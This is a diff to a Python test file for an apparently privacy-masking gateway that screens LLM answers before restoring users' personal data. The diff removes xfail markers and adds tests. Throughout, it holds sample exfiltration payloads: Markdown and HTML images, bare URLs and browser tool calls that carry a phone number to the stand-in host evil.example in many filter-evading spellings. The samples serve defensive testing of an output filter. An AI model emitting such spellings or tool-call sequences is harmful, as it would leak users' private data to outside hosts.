@@ -20,6 +20,7 @@ import pytest
 from _gateway import Running, running_gateway
 from hinagata.gateway._arguments import ArgumentsRestorer, restore_arguments, restore_input
 from hinagata.gateway._events import Channels, OutputCheckError
+from hinagata.gateway._payload import StreamRestoreState
 from hinagata.guard import OutputRules, OutputScreen
 from test_probe_protocols import (
     NAME,
@@ -299,14 +300,6 @@ def test_responses_whole_many_parts_and_items_link_is_removed(gw: Running) -> No
     assert PHONE not in r.text and not _leaks(r.text)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: a whole chat completion whose message content is a list of text parts: "
-    "restore_response/_message_texts give each part to OutputScreen.screen on its own (no "
-    "joint screening as finish_whole does for Responses and Messages), so "
-    "'![x](https://evil.example/p.png?d=' | '〔電話番号1〕)' is two harmless texts and the "
-    "client joins them into an image that loads the request's phone.",
-)
 def test_chat_whole_list_content_parts_are_screened_as_one_text(gw: Running) -> None:
     parts = [{"type": "text", "text": "![x](https://evil.example/p.png?d="},
              {"type": "text", "text": f"{P})"}]  # fmt: skip
@@ -367,12 +360,10 @@ def test_a_stream_that_ends_without_closing_events_is_still_screened(gw: Running
 # OutputScreen's patterns against spellings a Markdown/HTML renderer loads too (images
 # load by themselves: any image to a foreign host is to be removed).
 
-#: The first three carry the request's phone restored in the query and get through
-#: whole. The others are images to a foreign host (an image loads by itself: any is to be
-#: removed) that the image patterns do not know; with the request's value in the query the
-#: bare-URL fallback still removes them (test_spellings_that_hold), but data the model
-#: knows itself (the conversation, the system prompt, here the phone base64-encoded)
-#: rides in the path of an image that loads without a click.
+#: The first three carry the request's phone restored in the query; the others are images
+#: to a foreign host (an image loads by itself: any is to be removed) whose path carries
+#: data the model knows itself (here the phone base64-encoded). All are removed now (the
+#: holes found here were closed; a spelling found open again goes into _SPELLING_HOLES).
 SPELLINGS = {
     "uppercase scheme image": f"![x](HTTPS://evil.example/p.png?d={PHONE})",
     "uppercase scheme bare url": f"詳細 HTTPS://evil.example/p?d={PHONE} まで",
@@ -387,26 +378,7 @@ SPELLINGS = {
     "svg image href": f'<svg><image href="https://evil.example/{P_B64}.png"/></svg>',
     "video poster": f'<video poster="https://evil.example/{P_B64}.png"></video>',
 }
-_SPELLING_HOLES = {
-    "uppercase scheme image": "_MD_LINK and _BARE_URL match only lowercase 'https?://' (and "
-    "_links looks for 'http' only): a Markdown renderer and the browser load HTTPS:// alike",
-    "uppercase scheme bare url": "_BARE_URL and _links' 'http' test are case-sensitive",
-    "scheme-relative image": "_MD_LINK and _BARE_URL require 'https?://'; '//evil.example' "
-    "takes the page's scheme",
-    "html entity in the scheme": "_HTML_IMG/_BARE_URL match the text before HTML entities are "
-    "decoded; the browser decodes &#58; in the attribute",
-    "reference-style image": "'![x][1]' + '[1]: URL' is read only as a bare URL: not an "
-    "image, so a URL without a query and without a request value stays",
-    "image with a single-quoted title": "_MD_LINK accepts only a double-quoted title; the "
-    "bare-URL fallback treats it as a link",
-    "image label with brackets": "_MD_LINK's label excludes ']' (CommonMark allows nested "
-    "brackets)",
-    "image label over two lines": "_MD_LINK's label excludes a line break",
-    "image label of 501 characters": "_MD_LINK's label is at most 500 characters",
-    "html srcset": "_HTML_IMG reads only src=",
-    "svg image href": "_HTML_IMG reads only <img",
-    "video poster": "_HTML_IMG reads only <img",
-}
+_SPELLING_HOLES: dict[str, str] = {}
 
 
 @pytest.mark.parametrize(
@@ -458,11 +430,6 @@ def test_spellings_that_hold(text: str) -> None:
     assert "evil.example" not in out and "203.0.113.7" not in out and "xn--" not in out, out
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: the uppercase scheme through the gateway (Responses whole answer): "
-    "_MD_LINK/_BARE_URL are case-sensitive, the image loads the request's restored phone",
-)
 def test_responses_whole_uppercase_scheme_image_is_removed(gw: Running) -> None:
     r = _r_whole(gw, _message_item(_text_part(f"![x](HTTPS://EVIL.EXAMPLE/p.png?d={P})")))
     assert PHONE not in r.text, r.text
@@ -565,13 +532,6 @@ def test_messages_whole_tool_use_host_field_nested_deep(gw: Running) -> None:
     assert PHONE not in r.text, r.text
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="HOLE: each call's arguments are judged on their own (restore_input per block, "
-    "ArgumentsRestorer per call): a browser tool told open('https://evil.example/form') "
-    "in one call and type('〔電話番号1〕') in the next gets the request's phone typed into "
-    "the foreign page; the foreign URL keeps only its own call masked.",
-)
 def test_messages_whole_foreign_url_in_one_call_and_value_in_the_next(gw: Running) -> None:
     r = _m_whole(
         gw,
@@ -579,6 +539,52 @@ def test_messages_whole_foreign_url_in_one_call_and_value_in_the_next(gw: Runnin
          "input": {"url": "https://evil.example/form"}},
         {"type": "tool_use", "id": "t2", "name": "browser_type", "input": {"text": P}},
     )  # fmt: skip
+    assert PHONE not in r.text, r.text
+
+
+def test_streamed_calls_after_one_naming_a_foreign_host_keep_their_placeholders() -> None:
+    """Channels (Responses/Messages streams) and the chat stream's restorer state carry
+    what the answer's earlier calls named."""
+    ch = Channels(MAPPING, SCREEN)
+    for key, args in (
+        (("args", 0, 0), {"url": "https://evil.example/form"}),
+        (("args", 1, 0), {"text": P}),
+    ):
+        assert ch.feed(key, _dump(args), readable=False) == ""
+        last = ch.close(key, readable=False)
+    assert last == _dump({"text": P})
+    state = StreamRestoreState(MAPPING, SCREEN)
+    for k, args in enumerate(({"url": "https://evil.example/form"}, {"text": P})):
+        call = {"index": k, "function": {"arguments": _dump(args)}}
+        state.chunk({"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]})
+    done = state.chunk({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
+    assert PHONE not in _dump(done) and P in _dump(done), done
+    # Another choice is another answer: its calls are restored.
+    other = {"index": 0, "function": {"arguments": _dump({"text": P})}}
+    out = state.chunk(
+        {"choices": [{"index": 1, "delta": {"tool_calls": [other]}, "finish_reason": "stop"}]}
+    )
+    assert PHONE in _dump(out), out
+
+
+def test_chat_whole_foreign_url_in_one_call_and_value_in_another(gw: Running) -> None:
+    calls = [
+        {"id": "c1", "type": "function",
+         "function": {"name": "type", "arguments": _dump({"text": P})}},
+        {"id": "c2", "type": "function",
+         "function": {"name": "open", "arguments": _dump({"url": "https://evil.example/f"})}},
+    ]  # fmt: skip
+    answer = {
+        "id": "c1", "object": "chat.completion", "created": 1, "model": "up",
+        "choices": [{"index": 0, "finish_reason": "tool_calls",
+                     "message": {"role": "assistant", "content": None, "tool_calls": calls}}],
+        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
+    }  # fmt: skip
+    _hostile(gw, Scripted(whole=answer))
+    r = _post(
+        gw, "chat/completions", {"model": "wg", "messages": [{"role": "user", "content": REQUEST}]}
+    )
+    assert r.status_code == 200, r.text
     assert PHONE not in r.text, r.text
 
 
@@ -609,7 +615,8 @@ def test_chat_stream_interleaved_tool_calls_are_judged_whole(gw: Running) -> Non
             for call in c.get("delta", {}).get("tool_calls") or []:
                 args[call["index"]] += call.get("function", {}).get("arguments") or ""
     assert PHONE not in args[0], args
-    assert json.loads(args[1]) == {"who": NAME}
+    # (the answer's first call named a foreign host: the second keeps its placeholders)
+    assert json.loads(args[1]) == {"who": "〔氏名1〕"}
 
 
 # ====================================================================== earlier answers
